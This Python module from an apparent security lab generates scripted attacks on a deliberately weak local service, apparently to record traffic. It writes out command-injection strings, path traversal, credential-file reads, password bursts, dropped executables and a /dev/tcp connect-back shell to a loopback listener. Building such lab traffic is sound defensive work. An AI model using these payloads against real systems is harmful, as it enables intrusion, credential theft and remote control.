"""The attacks on the two weak pages of the service.

Every attack stays in the folder of the run and on the loopback address, and reads no real secret.

An attack visit is a normal visit with the attack inserted at a random index; half of them end after the attack.
"""

import random
from urllib.parse import quote

from hostlab_recorder.clients import HABITS, Step, Visitor, plan, some_file
from hostlab_recorder.laboratory import PEOPLE

COMMANDS = (
    "id",
    "uname -a",
    "hostname",
    "env",
    "pwd",
    "ls -la home",
    "ls tmp",
    "df .",
    "date",
    "cat var/auth.log",
    "whoami",
)
ANSWER_SECONDS = 2


class NotDoneError(Exception):
    """The attack had no effect: its visit is left out of the record."""


def inject(visitor: Visitor, line: str) -> bytes:
    """Run `line` through the unquoted field of the report job."""
    report = visitor.chance.choice(("words", "common", "first", "matches"))
    rest = visitor.chance.choice((" #", "; echo", f"; cat {some_file(visitor)}", f"; wc -c {some_file(visitor)}"))
    status, output = visitor.post("/job/report", report=report, file=f"{some_file(visitor)}; {line}{rest}", number="7")
    if status != 200:
        raise NotDoneError(f"the job answered {status}")
    return output


def stray_download(visitor: Visitor, path: str) -> None:
    """Read a file outside the documents folder through `..`."""
    status, _ = visitor.ask("GET", f"/download?name={quote('../../' + path, safe='')}")
    if status != 200:
        raise NotDoneError(f"{path} answered {status}")


def command_injection(visitor: Visitor) -> None:
    """Append commands to a file name."""
    for _ in range(visitor.chance.randint(1, 2)):
        inject(visitor, "; ".join(visitor.chance.sample(COMMANDS, visitor.chance.randint(2, 4))))
        visitor.think()


def shell_spawned(visitor: Visitor) -> None:
    """Start a shell that reads commands from a pipe or an uploaded file, with pauses between them."""
    lines = visitor.chance.sample(COMMANDS, visitor.chance.randint(2, 5))
    script = "\n".join(f"{line}\nsleep 0.0{visitor.chance.randint(1, 5)}" for line in lines) + "\n"
    if visitor.chance.random() < 0.5:
        visitor.ask("PUT", "/upload/notes.txt", script.encode())
        inject(visitor, "sh < upload/notes.txt")
    else:
        inject(visitor, f"printf '{script}' | sh -s")


def bulk_read(visitor: Visitor) -> None:
    """Read the files of many people, one by one or by one command."""
    person = visitor.chance.choice(list(PEOPLE))
    if visitor.chance.random() < 0.4:
        for person in visitor.chance.sample(list(PEOPLE), visitor.chance.randint(2, 4)):
            for number in range(6):
                stray_download(visitor, f"home/{person}/note{number}.txt")
    else:
        inject(
            visitor,
            visitor.chance.choice(
                (
                    "cat home/*/*",
                    f"cat home/{person}/* data/docs/d1*",
                    "tar cf tmp/all.tar home data/items",
                    "grep -r river home",
                )
            ),
        )


def dropped_executable(visitor: Visitor) -> None:
    """Make an uploaded script or a copied system tool executable and start it."""
    name = f"x{visitor.chance.randrange(10**6)}"
    visitor.ask("PUT", f"/upload/{name}", b"#!/bin/sh\nid\npwd\nls tmp\n")
    source = visitor.chance.choice((f"upload/{name}", "/usr/bin/id", "/usr/bin/uname"))
    inject(visitor, f"cp {source} tmp/{name}; chmod 700 tmp/{name}; tmp/{name}")


def credentials_read(visitor: Visitor) -> None:
    """Read one to three files of secrets, none of them real."""
    chosen = visitor.chance.sample(("credentials", "service.conf", "keys"), visitor.chance.randint(1, 3))
    if visitor.chance.random() < 0.5:
        for file in chosen:
            stray_download(visitor, f"etc/{file}")
    else:
        inject(visitor, "ls -la etc; cat " + " ".join(f"etc/{file}" for file in chosen))


def login_burst(visitor: Visitor) -> None:
    """Try many passwords without a pause."""
    for attempt in range(visitor.chance.randint(8, 30)):
        status, _ = visitor.post("/login", user=visitor.chance.choice(list(PEOPLE)), word=f"guess{attempt}")
        if status not in (401, 429):
            raise NotDoneError(f"a guessed password answered {status}")


def connect_back(visitor: Visitor) -> None:
    """Connect from a job to a port outside the service, where a listener answers, and send output to it."""
    stranger, word = visitor.lab.stranger, f"{visitor.user}-{visitor.chance.randrange(10**6)}"
    commands = visitor.chance.sample(COMMANDS, visitor.chance.randint(1, 3))
    talk = " && ".join(f"echo {word} >&3 && read -t {ANSWER_SECONDS} x <&3 && {command} >&3" for command in commands)
    inject(visitor, f"bash -c 'exec 3<>/dev/tcp/127.0.0.1/{stranger.port} && {talk}'")
    if word not in stranger.heard:
        raise NotDoneError("the listener heard nothing")


ACTS: dict[str, Step] = {
    "command_injection": command_injection,
    "shell_spawned": shell_spawned,
    "bulk_read": bulk_read,
    "dropped_executable": dropped_executable,
    "credentials_read": credentials_read,
    "login_burst": login_burst,
    "connect_back": connect_back,
}


def misuse_plan(act: str, chance: random.Random) -> tuple[str, list[Step]]:
    """Kind of visitor and steps of an attack visit: the steps of that kind with the attack among them."""
    kind = chance.choice(list(HABITS))
    steps = plan(kind, chance)
    index = chance.randint(0, len(steps))
    rest = steps[index:] if chance.random() < 0.5 else []
    return kind, [*steps[:index], ACTS[act], *rest]
